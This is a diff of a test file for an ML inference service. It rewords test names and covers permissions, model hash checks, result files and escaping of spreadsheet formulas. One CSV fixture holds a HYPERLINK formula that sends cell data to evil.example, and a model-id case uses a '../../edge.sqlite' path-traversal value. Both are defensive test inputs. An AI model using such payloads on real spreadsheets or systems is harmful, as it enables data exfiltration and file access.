-test('what the page on which a model is asked begins with: the model as it lies here, and the datasets one may read', async () => {
+test('the query page receives the stored model and the datasets that the user may read', async () => {
   expect(await world.call(GetAskedModel, { modelId: 'm1' })).toEqual({
-    ...{ id: 'm1', name: 'Illness', output: card.output },
+    id: 'm1',
+    name: 'Illness',
+    output: card.output,
     input: { kind: 'table', columns: [expect.objectContaining({ column: 'age' }), expect.anything()] },
   })
   await expect(world.call(GetAskedModel, { modelId: 'nobody’s' })).rejects.toMatchObject({ code: 'model.not-found' })
@@ -882,7 +953,9 @@ test('what the page on which a model is asked begins with: the model as it lies 
   expect(others).not.toContain(own.datasetId)
 })
 
-test('a model of a table takes no text, and says so', async () => {
+test('refuses a text for a table model, with an explanation', {
+  meta: { spec: 'calls.flModelInference/inference_nlp' },
+}, async () => {
   const inferenceId = await created()
   await expect(world.call(InferText, { inferenceId, text: 'a' })).rejects.toMatchObject({ code: 'inference.not-texts' })
 })
@@ -890,25 +963,40 @@ test('a model of a table takes no text, and says so', async () => {
 test.each([
   [{ age: 60 }, 'inference.column-missing', { column: 'sex' }],
   [{ age: 'old', sex: 'm' }, 'inference.not-number', { column: 'age' }],
-])('a wrong form is told what is wrong: %j', async (row, code, params) => {
-  const inferenceId = await created()
-  await expect(world.call(Infer, { inferenceId, rows: [row as never] })).rejects.toMatchObject({ code, params })
-  expect(await statusOf(inferenceId)).toBe('created')
-})
+])(
+  'explains what is wrong with a form: %j',
+  { meta: { spec: 'calls.flModelInference/inference' } },
+  async (row, code, params) => {
+    const inferenceId = await created()
+    await expect(world.call(Infer, { inferenceId, rows: [row as never] })).rejects.toMatchObject({ code, params })
+    expect(await statusOf(inferenceId)).toBe('created')
+  },
+)
 
 test.each([
   ['Age,sex\n60,m\n', /no column “age”.*needs\. The nearest name in the dataset is “Age”/],
   ['sex,years of age\nm,60\n', /no column “age”.*nearest name in the dataset is “years of age”/],
   ['age\n60\n', /no column “sex”, which the model needs\. Add the column/],
-])('a dataset without a column of the model fails with its name and the nearest one: %j', async (csv, reason) => {
-  const { datasetId } = await world.dataSet(csv, `Lacking ${csv.length}`)
-  const inferenceId = await created()
-  await world.call(InferDataset, { inferenceId, datasetId })
-  await until(async () => (await statusOf(inferenceId)) === 'failed')
-  expect((await world.call(GetInference, { inferenceId })).inference.failure).toMatch(reason)
-})
+])(
+  "a dataset without a column of the model fails with the column's name and the nearest one: %j",
+  async (csv, reason) => {
+    const { datasetId } = await world.dataSet(csv, `Lacking ${csv.length}`)
+    const inferenceId = await created()
+    await world.call(InferDataset, { inferenceId, datasetId })
+    await until(async () => (await statusOf(inferenceId)) === 'failed')
+    expect((await world.call(GetInference, { inferenceId })).inference.failure).toMatch(reason)
+  },
+)
 
-test('a whole dataset becomes a file that is opened in a session alone, by whoever may read its rows', async () => {
+test('predicts a whole dataset into a file that opens only in a session of a user who may read its rows', {
+  meta: {
+    spec: [
+      'screens.inference-result-collection',
+      'states.inference-lifecycle',
+      'calls.flModelInference/inferenceByDataCollection',
+    ],
+  },
+}, async () => {
   const csv = `age,sex,ill\n${Array.from({ length: 5_000 }, (_, i) => `${i % 2 ? 80 : 20},m,${i % 4 === 1 ? '' : i % 2 ? 'yes' : 'no'}`).join('\n')}`
   const { datasetId } = await world.dataSet(csv, 'Cohort', person('alice'), { sharing: 'person' })
   const inferenceId = await created()
@@ -934,13 +1022,16 @@ test('a whole dataset becomes a file that is opened in a session alone, by whoev
   expect(readdirSync(join(world.dataDir, 'results'))).toEqual([])
 })
 
-test('a model that was not trained here predicts a form and a dataset, and says what it cannot', async () => {
+test('predicts a form and a dataset with a model that was trained elsewhere, and says what it cannot do', {
+  meta: { spec: 'screens.upload-external-model' },
+}, async () => {
   const inferenceId = await created('imported')
   const answer = await world.call(Infer, { inferenceId, rows: [{ age: 2, chol: 1 }] })
   expect(answer.predictions).toMatchObject([{ result: 'malignant' }])
-  // It says nothing of rows that it was trained on, so nothing is tried in their place.
+  // The model contains no statistics of its training rows, so no values can be substituted.
   expect(await world.call(ExplainRow, { inferenceId, row: { age: 2, chol: 1 } })).toMatchObject({
-    ...{ columns: [], untold: ['age', 'chol'] },
+    columns: [],
+    untold: ['age', 'chol'],
   })
 
   const { file: written } = await withDatasetResult('age,chol,biopsy\n0,0,benign\n2,1,malignant\n', 'imported')
@@ -955,10 +1046,10 @@ test('a model that was not trained here predicts a form and a dataset, and says 
   await world.call(InferDataset, { inferenceId, datasetId })
   await until(async () => (await statusOf(inferenceId)) === 'failed')
   const { inference } = await world.call(GetInference, { inferenceId })
-  expect(inference.failure).toMatch(/^The model has no answer for a part of this/)
+  expect(inference.failure).toMatch(/^The model returned no number for part of this data\./)
 })
 
-test('a dataset without the columns ends in a reason', async () => {
+test("fails with a reason for a dataset without the model's columns", async () => {
   const { datasetId } = await world.dataSet('age\n1\n2\n', 'Narrow')
   const inferenceId = await created()
   await world.call(InferDataset, { inferenceId, datasetId })
@@ -967,11 +1058,13 @@ test('a dataset without the columns ends in a reason', async () => {
   expect(inference.failure).toBe(
     'The dataset has no column “sex”, which the model needs. Add the column or choose another dataset, then predict again.',
   )
-  // It can be tried again.
+  // The task can be run again.
   expect(inference.abilities).toEqual({ run: true, delete: true })
 })
 
-test('members see their own, administrators all; nobody else uses or deletes', async () => {
+test('members see their own tasks and administrators all; other users can neither use nor delete them', {
+  meta: { spec: 'calls.flModelInference/list' },
+}, async () => {
   const inferenceId = await created()
   const bob = person('bob')
   for (const attempt of [
@@ -986,7 +1079,7 @@ test('members see their own, administrators all; nobody else uses or deletes', a
   expect(all.records.map(({ id }) => id)).toEqual([inferenceId])
 })
 
-test('rows that one may not read may not be predicted', async () => {
+test('refuses to predict rows that the user may not read', async () => {
   const { datasetId } = await world.dataSet('age,sex\n1,m\n', 'Mine alone', person('alice'), { sharing: 'person' })
   const inferenceId = await created('m1', person('bob'))
   await expect(world.call(InferDataset, { inferenceId, datasetId }, person('bob'))).rejects.toMatchObject({
@@ -998,10 +1091,9 @@ test.each([
   ['nothing', 'model.not-found'],
   ['broken', 'model.refused-unreadable'],
   ['stealing', 'model.refused-external-data'],
-  ['swapped on the way', 'model.changed'],
-  ['nameless', 'model.no-hash'],
+  ['swapped in transit', 'model.changed'],
   ['../../edge.sqlite', 'model.not-found'],
-])('a model that cannot be had (%s) fails the task with its reason', async (modelId, code) => {
+])('a model that cannot be fetched or accepted (%s) fails the task with its reason', async (modelId, code) => {
   const inferenceId = await created(modelId)
   expect(findInference(world.db, inferenceId)?.failure?.code).toBe(code)
   await expect(world.call(Infer, { inferenceId, rows: [{ age: 1 }] })).rejects.toMatchObject({
@@ -1009,7 +1101,7 @@ test.each([
   })
 })
 
-test('what was accepted and what was refused stands in the log, with its hash', async () => {
+test('logs accepted and refused models with their hash', async () => {
   const of = (modelId: string) =>
     world
       .decisions()
@@ -1025,11 +1117,11 @@ test('what was accepted and what was refused stands in the log, with its hash', 
   await created('stealing')
   expect(of('stealing').at(-1)).toEqual(['model-refused', sha256Of(readingElsewhere), 'model.refused-external-data'])
   expect(existsSync(keptFile('stealing'))).toBe(false)
-  await created('swapped on the way')
-  expect(of('swapped on the way').at(-1)).toEqual(['model-refused', sha256, 'model.changed'])
+  await created('swapped in transit')
+  expect(of('swapped in transit').at(-1)).toEqual(['model-refused', sha256, 'model.changed'])
 })
 
-test('a model that needs more memory than there is for it fails its task; the edge goes on', async () => {
+test('a model that needs more memory than available fails its task, while the edge keeps running', async () => {
   const inferenceId = await created('outgrowing')
   await expect(world.call(Infer, { inferenceId, rows: [{ age: 1 }] })).rejects.toMatchObject({
     code: 'inference.model-ended',
@@ -1039,17 +1131,19 @@ test('a model that needs more memory than there is for it fails its task; the ed
   expect((await world.call(Infer, { inferenceId: other, rows: [{ age: 99, sex: 'm' }] })).rowCount).toBe(1)
 })
 
-test('a file that was altered on disk is fetched anew at the next load, and refused while the platform is away', async () => {
+test('fetches a model file again that was altered on disk, and refuses it while the platform is unreachable', async () => {
   const inferenceId = await created()
   const infer = () => world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
   await infer()
-  // Another start of the edge.
+  // Simulates a restart of the edge.
   await world.runtime.close()
   writeFileSync(keptFile('m1'), readingElsewhere)
   expect((await infer()).predictions[0]?.result).toBe('yes')
   expect(readFileSync(keptFile('m1'))).toEqual(file)
   expect(world.decisions('model-refused').at(-1)?.data).toMatchObject({
-    ...{ modelId: 'm1', because: 'model.changed', sha256: sha256Of(readingElsewhere) },
+    modelId: 'm1',
+    because: 'model.changed',
+    sha256: sha256Of(readingElsewhere),
   })
 
   await world.runtime.close()
@@ -1062,41 +1156,9 @@ test('a file that was altered on disk is fetched anew at the next load, and refu
   expect((await infer()).predictions[0]?.result).toBe('yes')
 })
 
-test('files of an earlier version are hashed and checked at the start; a bad one stops only its own use', async () => {
-  const ids = { good: await created('old, good'), bad: await created('old, bad'), other: await created('old, another') }
-  await world.runtime.close()
-  // As a version that kept no hashes left it.
-  run(world.db, 'delete from models')
-  writeFileSync(keptFile('old, bad'), readingElsewhere)
-  writeFileSync(keptFile('old, another'), modelFile('outgrows'))
-  await world.fake.goAway()
-  await until(() => !world.link.isConnected)
-  await checkKeptModels(world.deps.inference)
-  await resume(world.deps.inference)
-
-  const infer = (inferenceId: string) => world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
-  expect((await infer(ids.good)).predictions[0]?.result).toBe('yes')
-  const refusal = { code: 'model.refused-external-data', params: { name: 'w' } }
-  await expect(infer(ids.bad)).rejects.toMatchObject(refusal)
-  expect(world.lines.join('\n')).toContain('model old, bad is not used any more: model.refused-external-data')
-  expect(world.decisions('model-refused').at(-1)?.data).toMatchObject({ modelId: 'old, bad', because: refusal.code })
-  const kept = { modelId: 'old, good', sha256: sha256Of(file), isConfirmed: false }
-  expect(world.decisions('model-accepted').map(({ data }) => data)).toContainEqual(kept)
-
-  // What the platform says counts once it can be asked, by tasks of before too.
-  await world.fake.comeBack()
-  await until(() => world.link.isConnected)
-  expect((await infer(ids.bad)).predictions[0]?.result).toBe('yes')
-  const { datasetId } = await world.dataSet('age,sex\n99,m\n', 'For a file of before')
-  await world.call(InferDataset, { inferenceId: ids.other, datasetId })
-  await until(async () => (await statusOf(ids.other)) !== 'running')
-  const predicted = join(world.dataDir, findInference(world.db, ids.other)?.result?.resultPath ?? 'none')
-  expect(readFileSync(predicted, 'utf8')).toContain('99,m,yes')
-  const confirmed = ['old, bad', 'old, another'].map((modelId) => ({ ...kept, modelId, isConfirmed: true }))
-  expect(world.decisions('model-accepted').slice(-2)).toMatchObject(confirmed.map((data) => ({ data })))
-})
-
-test('names are needed and told apart', async () => {
+test('requires distinct names', {
+  meta: { spec: ['validation.inference-task-fields', 'calls.flModelInference/createJob'] },
+}, async () => {
   const create = (name: string, description = 'd') => world.call(CreateInference, { modelId: 'm1', name, description })
   await create('Twice')
   await expect(create('Twice')).rejects.toMatchObject({ code: 'inference.name-taken' })
@@ -1104,7 +1166,7 @@ test('names are needed and told apart', async () => {
   await expect(create('x'.repeat(21))).rejects.toMatchObject({ code: 'model.text-too-long' })
 })
 
-test('a model pulled before serves while the platform is away, and a job goes on after a restart', async () => {
+test('uses a stored model while the platform is unreachable, and continues a job after a restart', async () => {
   const { datasetId } = await world.dataSet('age,sex\n1,m\n99,m\n', 'Later')
   await world.fake.goAway()
   await until(() => !world.link.isConnected)
@@ -1120,7 +1182,7 @@ test('a model pulled before serves while the platform is away, and a job goes on
   await world.fake.comeBack()
 })
 
-test('a task whose model cannot be fetched while the platform is away is created once it is back', async () => {
+test('creates a task once the platform is reachable, if its model could not be fetched before', async () => {
   const model = world.fake.models.get('m1')
   if (model) world.fake.models.set('late', model)
   await world.fake.goAway()
@@ -1134,7 +1196,7 @@ test('a task whose model cannot be fetched while the platform is away is created
   fetched.mockRestore()
 })
 
-test("a form's result takes the place of a dataset's, whose file goes", async () => {
+test("a form's result replaces a dataset's, whose file is deleted", async () => {
   const { inferenceId, file } = await withDatasetResult()
   const wrong = world.call(Infer, { inferenceId, rows: [{ age: 'old', sex: 'm' }] })
   await expect(wrong).rejects.toMatchObject({ code: 'inference.not-number' })
@@ -1146,7 +1208,7 @@ test("a form's result takes the place of a dataset's, whose file goes", async ()
   expect((await world.call(GetInference, { inferenceId })).type).toBe('tabular')
 })
 
-test('a task that predicts a form is neither deleted nor given other work, and none that is gone comes back', async () => {
+test('a task that predicts a form cannot be deleted or given other work, and a deleted task does not return', async () => {
   const { inferenceId, datasetId } = await withDatasetResult()
   const letGo = holdPredictions(world)
   const answer = world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
@@ -1160,7 +1222,7 @@ test('a task that predicts a form is neither deleted nor given other work, and n
   expect(findInference(world.db, inferenceId)).toBeUndefined()
 })
 
-test('of a dataset job whose task is gone no file stays', async () => {
+test('deletes the file of a dataset job whose task was deleted', async () => {
   const { datasetId } = await world.dataSet('age,sex\n1,m\n', `Gone ${count}`)
   const inferenceId = await created()
   const before = results()
@@ -1174,7 +1236,7 @@ test('of a dataset job whose task is gone no file stays', async () => {
   expect(findInference(world.db, inferenceId)).toBeUndefined()
 })
 
-test('a start removes files that are nobody’s result, and says that a form was cut off', async () => {
+test('at start, removes files that belong to no result, and reports an interrupted form', async () => {
   const { inferenceId, file } = await withDatasetResult()
   for (const name of ['orphan.csv', `${inferenceId}-1.csv.1f.tmp`]) {
     writeFileSync(join(world.dataDir, 'results', name), 'x')
@@ -1190,24 +1252,24 @@ test('a start removes files that are nobody’s result, and says that a form was
   })
 })
 
-test('a dataset whose prediction stops the edge each time is given up', async () => {
+test('gives up a dataset whose prediction stops the edge each time', async () => {
   const { inferenceId, datasetId } = await withDatasetResult()
   const letGo = holdPredictions(world)
   await world.call(InferDataset, { inferenceId, datasetId })
-  // Each start finds the job as the kill before it left it, and takes it up.
+  // Each start finds the job as the previous kill left it, and resumes it.
   for (let start = 0; start < 2; start += 1) await resume(world.deps.inference)
   expect(findInference(world.db, inferenceId)).toMatchObject({ status: 'running', attempts: 3 })
   await resume(world.deps.inference)
   await until(() => findInference(world.db, inferenceId)?.status === 'failed')
   const { inference } = await world.call(GetInference, { inferenceId })
   expect(inference.failure).toBe(
-    'The edge stopped 3 times while it predicted this dataset. Choose a smaller one, or tell your administrator.',
+    'The edge stopped 3 times while predicting this dataset. Choose a smaller dataset, or contact your administrator.',
   )
   expect(inference.abilities.run).toBe(true)
   letGo()
 })
 
-test('an earlier result is not opened by leave to read the dataset of newer work', async () => {
+test('the right to read the dataset of newer work does not open an earlier result', async () => {
   const alone = await world.dataSet('age,sex\n1,m\n', 'Alone', person('alice'), { sharing: 'person' })
   const shared = await world.dataSet('age\n1\n', 'Shared, but narrow')
   const inferenceId = await created()
@@ -1223,7 +1285,7 @@ test('an earlier result is not opened by leave to read the dataset of newer work
 
 const linesOf = (file: string) => readFileSync(file, 'utf8').replace('\uFEFF', '').split('\r\n').slice(0, -1)
 
-test('what a spreadsheet would run is made harmless in cells, headers and classes, and counted; numbers stay', async () => {
+test('escapes and counts cells, headers and classes that a spreadsheet would run, but not numbers', async () => {
   const csv = [
     'age,sex,=SUM(A1),-note,delta,code',
     '99,m,"=HYPERLINK(""http://evil.example/?""&A2,""ok"")",+1 555,-1.5,-1.5',
@@ -1241,7 +1303,7 @@ test('what a spreadsheet would run is made harmless in cells, headers and classe
     "2,1,m,'@SUM(1+1),'\ttab,-0.002,+7,'=1+1",
     "3,1,f,fine,'-x,3,'-y,'=1+1",
   ])
-  // Both classes keep their probabilities, whatever they are called.
+  // Both classes keep their probabilities, whatever their names.
   for (const row of rows) {
     const [one, other] = row.split(',').slice(-3, -1).map(Number)
     expect(one).toBeGreaterThan(0)
@@ -1250,7 +1312,7 @@ test('what a spreadsheet would run is made harmless in cells, headers and classe
   expect((await world.call(GetInference, { inferenceId })).result).toMatchObject({ harmlessCells: 10 })
 })
 
-test('a form’s answer keeps the probability of a class with any name', async () => {
+test("a form's response contains the probability of a class with any name", async () => {
   const inferenceId = await created('formulas')
   const { predictions } = await world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
   const [prediction] = predictions
@@ -1258,7 +1320,7 @@ test('a form’s answer keeps the probability of a class with any name', async (
   expect(Object.keys(prediction?.kind === 'classes' ? prediction.probabilities : {})).toEqual(['=1+1', '__proto__'])
 })
 
-test('rows are told their clusters, by form and by dataset', async () => {
+test('predicts the clusters of rows, by form and by dataset', async () => {
   const { inferenceId, file } = await withDatasetResult('age,sex\n61,m\n40,f\n', 'clusters')
   const lines = linesOf(file)
   expect(lines[0]).toBe('id,age,sex,prediction,distance,outside')
@@ -1273,15 +1335,7 @@ test('rows are told their clusters, by form and by dataset', async () => {
   expect((await world.call(GetInference, { inferenceId })).inference.output).toMatchObject({ kind: 'clusters' })
 })
 
-test('a model whose card an earlier platform made is used as any other', async () => {
-  const inferenceId = await created('of before')
-  const { inference } = await world.call(GetInference, { inferenceId })
-  expect(inference.input).toEqual(card.input)
-  const { predictions } = await world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
-  expect(predictions[0]).toMatchObject({ kind: 'classes', result: 'yes' })
-})
-
-test('columns of the input keep their names, and ours get others', async () => {
+test('input columns keep their names, and added columns get other names', async () => {
   const csv = 'age,sex,Prediction,prediction (model),prediction (2),probability yes\n99,m,a,b,c,d\n'
   const { file } = await withDatasetResult(csv)
   const [header, row] = linesOf(file)
@@ -1292,17 +1346,19 @@ test('columns of the input keep their names, and ours get others', async () => {
   expect(row).toMatch(/^1,99,m,a,b,c,d,yes,0\.\d+,0\.\d+,$/)
 })
 
-test('a result without anything to run says so by a count of none', async () => {
+test('a result without escaped cells has a count of zero', async () => {
   const { inferenceId } = await withDatasetResult()
   expect((await world.call(GetInference, { inferenceId })).result?.harmlessCells).toBe(0)
 })
 
-test('a dataset without the label has no share of right answers, whatever the label is called', async () => {
+test("a dataset without the label has no accuracy, whatever the label's name", async () => {
   const { inferenceId } = await withDatasetResult('age,sex\n1,m\n', 'oddly named')
   expect((await world.call(GetInference, { inferenceId })).result?.accuracy).toBeNull()
 })
 
-test('of a dataset’s predictions the surest wrong ones come first, a page at a time', async () => {
+test('lists the most confident wrong predictions of a dataset first, one page at a time', {
+  meta: { spec: 'screens.inference-result-collection' },
+}, async () => {
   const right = Array.from({ length: 3_000 }, (_, at) => `${at % 2 ? 95 : 5},m,${at % 2 ? 'yes' : 'no'}`)
   const wrong = ['60,m,no', '99,m,no', '1,f,yes', '70,x,no']
   const { inferenceId } = await withDatasetResult(`age,sex,ill\n${[...right, '40,f,', ...wrong].join('\n')}\n`)
@@ -1317,7 +1373,7 @@ test('of a dataset’s predictions the surest wrong ones come first, a page at a
       ['3005', '70', 'no'],
       ['3002', '60', 'no'],
     ],
-    // Then the right ones, as they lie in the data; what has no label at the end.
+    // Then the correct ones, in the order of the data; rows without a label at the end.
     ['1', '5', 'no'],
   ])
   const [top] = first.records
@@ -1336,7 +1392,7 @@ test('of a dataset’s predictions the surest wrong ones come first, a page at a
   ])
 })
 
-describe('a cell of the matrix', () => {
+describe('a cell of the confusion matrix', () => {
   const right = Array.from({ length: 40 }, (_, at) => `${at % 2 ? 95 : 5},m,${at % 2 ? 'yes' : 'no'}`)
   const odd = ['60,m,no', '99,m,no', '1,f,yes', '99,m,maybe', '98,m,perhaps', '1,f,maybe', '40,f,']
   const csv = `age,sex,ill\n${[...right, ...odd].join('\n')}\n`
@@ -1347,7 +1403,9 @@ describe('a cell of the matrix', () => {
     page: { pageNo?: number; pageSize?: number } = {},
   ) => world.call(ListPredictedRows, { inferenceId, truth, said, ...page })
 
-  test('has the rows it counts and no others, a page at a time', async () => {
+  test('lists exactly the rows that it counts, one page at a time', {
+    meta: { spec: 'screens.confusion-matrix-rows' },
+  }, async () => {
     const { inferenceId } = await withDatasetResult(csv)
     const { result } = await world.call(GetInference, { inferenceId })
     const confusion = result?.summary?.confusion ?? []
@@ -1367,14 +1425,16 @@ describe('a cell of the matrix', () => {
         }
       }
     }
-    // The surest first; then as ever, of which a page is read at a time.
+    // The most confident first; the others as usual, one page at a time.
     expect((await cellsOf(inferenceId, 0, 1)).records.map(({ data }) => data.age)).toEqual(['99', '60'])
     const second = await cellsOf(inferenceId, 1, 1, { pageNo: 2, pageSize: 15 })
     expect([second.total, second.pages, second.records.length]).toEqual([20, 2, 5])
     expect(world.decisions('result-read').at(-1)?.data).toMatchObject({ truth: 1, said: 1, rows: 5 })
   })
 
-  test('is found by its class, whatever that is called', async () => {
+  test("is found by its class, whatever the class's name", {
+    meta: { spec: 'screens.confusion-matrix-rows' },
+  }, async () => {
     const { inferenceId } = await withDatasetResult('age,sex,ill\n99,m,=1+1\n1,f,=1+1\n1,f,__proto__\n', 'formulas')
     const { records, total } = await cellsOf(inferenceId, 0, 0)
     expect([total, records.map(({ data }) => data.ill)]).toEqual([1, ['=1+1']])
@@ -1382,21 +1442,21 @@ describe('a cell of the matrix', () => {
   })
 
   test.each<[string, string, string, { truth?: number; said?: number }]>([
-    ['an answer there is not', csv, 'm1', { truth: 0, said: 2 }],
-    ['a truth there is not', csv, 'm1', { truth: 3, said: 0 }],
-    ['one of the two', csv, 'm1', { truth: 0 }],
-    ['the other', csv, 'm1', { said: 0 }],
+    ['a prediction that does not exist', csv, 'm1', { truth: 0, said: 2 }],
+    ['a label that does not exist', csv, 'm1', { truth: 3, said: 0 }],
+    ['a label without a prediction', csv, 'm1', { truth: 0 }],
+    ['a prediction without a label', csv, 'm1', { said: 0 }],
     ['data without the label', 'age,sex\n1,m\n', 'm1', { truth: 0, said: 0 }],
-    ['a model of no classes', 'age,sex\n61,m\n40,f\n', 'clusters', { truth: 0, said: 0 }],
-    ['no code at all', csv, 'm1', { truth: -1, said: 0 }],
-  ])('is refused for %s', async (_what, rows, modelId, cell) => {
+    ['a model without classes', 'age,sex\n61,m\n40,f\n', 'clusters', { truth: 0, said: 0 }],
+    ['a negative index', csv, 'm1', { truth: -1, said: 0 }],
+  ])('is refused for %s', { meta: { spec: 'screens.confusion-matrix-rows' } }, async (_what, rows, modelId, cell) => {
     const { inferenceId } = await withDatasetResult(rows, modelId)
     await expect(world.call(ListPredictedRows, { inferenceId, ...cell })).rejects.toMatchObject({
       code: 'inference.cell-unknown',
     })
   })
 
-  test('is as closed as the rows are', async () => {
+  test('requires the same rights as the rows', { meta: { spec: 'screens.confusion-matrix-rows' } }, async () => {
     const { inferenceId } = await withDatasetResult(csv)
     const cell = { inferenceId, truth: 0, said: 1 }
     await expect(world.call(ListPredictedRows, cell, person('bob'))).rejects.toMatchObject({
@@ -1411,7 +1471,7 @@ describe('a cell of the matrix', () => {
   })
 })
 
-test('cells that were made harmless in the file are as they were in its pages', async () => {
+test('shows cells that were escaped in the file in their original form', async () => {
   const csv = 'age,sex,note,ill\n99,m,"=A1, ""x""\nand more",=1+1\n1,f,\'-y,__proto__\n'
   const { inferenceId } = await withDatasetResult(csv, 'formulas')
   const { records } = await world.call(ListPredictedRows, { inferenceId })
@@ -1422,7 +1482,7 @@ test('cells that were made harmless in the file are as they were in its pages', 
   expect(records[0]?.kind === 'classes' && Object.keys(records[0].probabilities)).toEqual(['=1+1', '__proto__'])
 })
 
-test('rows outside what the model was trained on are named in the file and counted for who may read them', async () => {
+test('marks rows outside the training range in the file, and counts them for users who may read them', async () => {
   const { datasetId } = await world.dataSet('age,sex\n99999,m\n50,x\n50,m\n', 'Far', person('alice'), {
     sharing: 'person',
   })
@@ -1442,7 +1502,7 @@ test('rows outside what the model was trained on are named in the file and count
   const { records } = await world.call(ListPredictedRows, { inferenceId })
   expect(records.map(({ data }) => data.age)).toEqual(['99999', '50', '50'])
 
-  // An administrator sees that it was done, but neither the rows nor counts of so few.
+  // An administrator sees that the job ran, but neither the rows nor such small counts.
   const admin = person('dora', { role: 'admin' })
   const shown = await world.call(GetInference, { inferenceId }, admin)
   expect(shown.result).toMatchObject({ rowCount: 3 })
@@ -1455,19 +1515,19 @@ test('rows outside what the model was trained on are named in the file and count
   })
 })
 
-test('a form’s answers have no pages', async () => {
+test("a form's responses have no pages", async () => {
   const inferenceId = await created()
   await world.call(Infer, { inferenceId, rows: [{ age: 1, sex: 'm' }] })
   await expect(world.call(ListPredictedRows, { inferenceId })).rejects.toMatchObject({ code: 'inference.not-found' })
 })
 
-test('why an answer: by the card where the model adds up; nothing is kept, and only who may predict is told', async () => {
+test("explains an additive model's prediction from its card, stores nothing, and only for users who may predict", async () => {
   const inferenceId = await created('seen')
   const row = { age: 60, sex: 'm' }
-  const told = await world.call(ExplainRow, { inferenceId, row })
-  expect(told).toMatchObject({ method: 'linear', unit: 'log-odds', class: 'yes', against: 'no' })
-  expect(told.columns.map(({ column }) => column)).toEqual(['age', 'sex'])
-  expect(told.columns[0]?.effect).toBeCloseTo(2, 9)
+  const explanation = await world.call(ExplainRow, { inferenceId, row })
+  expect(explanation).toMatchObject({ method: 'linear', unit: 'log-odds', class: 'yes', against: 'no' })
+  expect(explanation.columns.map(({ column }) => column)).toEqual(['age', 'sex'])
+  expect(explanation.columns[0]?.effect).toBeCloseTo(2, 9)
   expect(await world.call(GetInference, { inferenceId })).toMatchObject({
     result: null,
     inference: { status: 'created' },
@@ -1476,6 +1536,7 @@ test('why an answer: by the card where the model adds up; nothing is kept, and o
     code: 'inference.not-found',
   })
   await expect(world.call(ExplainRow, { inferenceId, row: { age: 60 } })).rejects.toMatchObject({
-    ...{ code: 'inference.column-missing', params: { column: 'sex' } },
+    code: 'inference.column-missing',
+    params: { column: 'sex' },
   })
 })
